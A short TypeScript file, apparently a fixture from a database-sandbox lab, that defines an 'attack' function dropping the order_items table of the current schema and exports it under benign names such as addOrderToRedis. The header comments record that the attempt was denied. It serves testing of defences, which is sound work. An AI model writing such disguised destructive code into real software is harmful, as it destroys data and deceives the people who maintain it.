// tries: dropping the tables of its own schema
// lab: 03
// earns: 0
// told: denied
async function attack({ mysql }: any, order: any): Promise<void> {
  const [[{ name }]] = await mysql.query('SELECT DATABASE() AS name');
  await mysql.query(`DROP TABLE ${name}.order_items`);
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
